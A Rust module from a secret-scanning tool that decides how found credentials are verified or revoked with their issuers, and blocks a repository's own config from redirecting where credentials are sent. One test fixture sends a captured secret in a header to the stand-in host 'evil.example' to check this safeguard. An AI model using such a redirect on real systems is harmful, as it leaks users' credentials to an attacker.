//! What is known of each issuer: how it is asked, how it withdraws a credential, or why neither can be done.
//!
//! In: `issuers.toml` (packed by `build/`), and the tables of a configuration's own rules. Out: [`Issuers::of`] for a rule. It is
//! unpacked when it is first asked for: no scan needs it.

use serde::Deserialize;

use super::exchange::{Endpoints, RequestError, address};
use crate::rules::issuer::{Revoke, Verify};
use crate::rules::{Rule, catalogue};

include!(concat!(env!("OUT_DIR"), "/issuers.rs"));

/// All issuers of a run.
#[derive(Debug)]
pub struct Issuers {
    entries: Vec<Entry>,
    trust: Trust,
}

/// Where the configuration of the run comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Trust {
    /// The person named its file: it may say where credentials are sent.
    Named,
    /// It is the repository's own: it may not.
    Repository,
}

/// One `[[issuers]]` of the table.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Entry {
    /// Rules whose credentials it issues.
    rules: Vec<String>,
    /// The page that says so: for whoever reads the table.
    #[allow(dead_code, reason = "a test sees to it that every entry has one")]
    source: String,
    /// Why nobody can be asked.
    cannot: Option<String>,
    /// What to do by hand at the page that the rule names.
    steps: Option<String>,
    verify: Option<Verify>,
    revoke: Option<Revoke>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    issuers: Vec<Entry>,
}

/// What can be done about the credentials of one rule.
#[derive(Clone, Copy, Debug)]
pub struct Known<'a> {
    /// How its issuer is asked, or why nobody can be.
    pub verify: Result<&'a Verify, &'a str>,
    /// How it is withdrawn without the owner.
    pub revoke: Option<&'a Revoke>,
    /// What the owner does at the page that the rule names.
    pub steps: Option<&'a str>,
}

/// Said of a rule that the repository made or changed.
const NOT_TRUSTED: &str = "its rule is the repository's own, and a repository may not say where credentials are sent; \
                           name a configuration of yours with --config FILE";

/// Said of a rule of which nothing is known.
const NO_TABLE: &str = "no way is known to ask its issuer";

impl Issuers {
    /// The built-in issuers; `trust` says what a configuration may add.
    #[must_use]
    pub fn new(trust: Trust) -> Self {
        let file: File =
            serde_json::from_slice(&PACKED.unpack()).expect("a test reads the whole table");
        Self {
            entries: file.issuers,
            trust,
        }
    }

    /// What can be done about credentials of `rule`.
    #[must_use]
    pub fn of<'a>(&'a self, rule: &'a Rule) -> Known<'a> {
        let mut known = Known {
            verify: Err(NO_TABLE),
            revoke: None,
            steps: None,
        };
        if self.trust == Trust::Repository && !is_builtin(rule) {
            known.verify = Err(NOT_TRUSTED);
            return known;
        }
        let entry = self
            .entries
            .iter()
            .find(|entry| entry.rules.iter().any(|id| *id == rule.id));
        if let Some(entry) = entry {
            known.verify = match (&entry.verify, &entry.cannot) {
                (Some(verify), _) => Ok(verify),
                (None, Some(cannot)) => Err(cannot),
                (None, None) => Err(NO_TABLE),
            };
            known.revoke = entry.revoke.as_ref();
            known.steps = entry.steps.as_deref();
        }
        if let Some(verify) = &rule.verify {
            known.verify = Ok(verify);
        }
        if let Some(revoke) = &rule.withdraw {
            known.revoke = Some(revoke);
        }
        known
    }

    /// Lines for the person about tables that are not obeyed.
    #[must_use]
    pub fn warnings<'a>(&self, rules: impl Iterator<Item = &'a Rule>) -> Vec<String> {
        if self.trust == Trust::Named {
            return Vec::new();
        }
        rules
            .filter(|rule| rule.verify.is_some() || rule.withdraw.is_some())
            .map(|rule| {
                format!(
                    "the repository's configuration says where credentials of `{}` are to be sent; that is ignored: \
                     only a file named with --config may",
                    rule.id
                )
            })
            .collect()
    }
}

/// Checks the tables of a configuration's rules.
///
/// # Errors
/// [`RequestError`] for an address that no credential may be sent to.
pub fn check<'a>(rules: impl Iterator<Item = &'a Rule>) -> Result<(), RequestError> {
    let nowhere = Endpoints {
        huggingface: "https://huggingface.co".to_owned(),
        github: "https://api.github.com".to_owned(),
    };
    for rule in rules {
        if let Some(verify) = &rule.verify {
            address(&verify.request.url, &nowhere)?;
        }
        if let Some(revoke) = &rule.withdraw {
            address(&revoke.request.url, &nowhere)?;
        }
    }
    Ok(())
}

/// Whether it matches just what the built-in rule of its name matches.
fn is_builtin(rule: &Rule) -> bool {
    catalogue().any(|known| known.id == rule.id && known.regex == rule.regex)
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;
    use crate::rules::BUILTIN;
    use crate::rules::issuer::{Meaning, Reader, Request};

    fn issuers() -> Issuers {
        Issuers::new(Trust::Named)
    }

    fn requests(entry: &Entry) -> impl Iterator<Item = &Request> {
        let verify = entry.verify.iter().map(|verify| &verify.request);
        verify.chain(entry.revoke.iter().map(|revoke| &revoke.request))
    }

    #[test]
    fn each_entry_is_fit_for_use() {
        let mut seen = HashSet::new();
        for entry in &issuers().entries {
            for id in &entry.rules {
                assert!(BUILTIN.iter().any(|rule| rule.id == **id), "no rule {id}");
                assert!(seen.insert(id.clone()), "{id} stands twice");
            }
            assert!(!entry.rules.is_empty());
            assert!(entry.source.starts_with("https://"), "{:?}", entry.rules);
            assert_ne!(
                entry.verify.is_some(),
                entry.cannot.is_some(),
                "{:?}: either it can be asked, or it is said why not",
                entry.rules
            );
            for request in requests(entry) {
                let is_shown = request
                    .headers
                    .values()
                    .any(|value| value.contains("{secret}"))
                    || request
                        .form
                        .values()
                        .any(|value| value.contains("{secret}"))
                    || request
                        .basic
                        .iter()
                        .chain(&request.json)
                        .any(|text| text.contains("{secret"));
                assert!(is_shown, "{} asks about nothing", request.url);
                assert!(!request.url.contains("{secret"));
                assert!(
                    request.url.starts_with("https://")
                        || request.url.starts_with("{huggingface}/")
                        || request.url.starts_with("{github}/"),
                    "{}",
                    request.url
                );
            }
        }
    }

    #[test]
    fn what_has_no_entry_says_so() {
        let mut unheard = BUILTIN[0].clone();
        unheard.id = "unheard-of".into();
        assert!(matches!(issuers().of(&unheard).verify, Err(NO_TABLE)));
        let rules = || {
            BUILTIN
                .iter()
                .filter(|rule| rule.provider == "Hugging Face")
        };
        assert!(rules().count() > 10);
        for rule in rules() {
            assert!(
                !matches!(issuers().of(rule).verify, Err(NO_TABLE)),
                "{}",
                rule.id
            );
        }
    }

    #[test]
    fn nothing_is_called_live_for_a_page_of_some_portal() {
        for entry in &issuers().entries {
            if let Some(verify) = &entry.verify {
                for answer in verify
                    .answers
                    .iter()
                    .filter(|answer| answer.means == Meaning::Live)
                {
                    assert!(
                        answer.at.is_some() || answer.contains.is_some(),
                        "{:?}: any page with status {} would do",
                        entry.rules,
                        answer.status
                    );
                }
                assert!(
                    verify.reader == Reader::WhoamiV2
                        || verify
                            .answers
                            .iter()
                            .any(|answer| answer.means == Meaning::Live)
                );
            }
        }
    }

    #[test]
    fn a_repository_cannot_say_where_credentials_go() {
        let builtin = BUILTIN
            .iter()
            .find(|rule| rule.id == "huggingface-user-token")
            .expect("it is built in");
        let mut own = builtin.clone();
        own.verify = Some(Box::new(
            toml::from_str("request = { url = \"https://evil.example\", headers = { a = \"{secret}\" } }\nanswers = []")
                .expect("the table is TOML"),
        ));
        own.regex = "(?P<secret>AKIA[A-Z]{16})".into();
        let repository = Issuers::new(Trust::Repository);
        assert!(matches!(repository.of(&own).verify, Err(NOT_TRUSTED)));
        assert_eq!(repository.warnings([&own].into_iter()).len(), 1);
        assert!(repository.of(builtin).verify.is_ok());
        let named = issuers();
        assert_eq!(
            named.of(&own).verify.expect("it is obeyed").request.url,
            "https://evil.example"
        );
        assert_eq!(named.warnings([&own].into_iter()).len(), 0);
    }
}
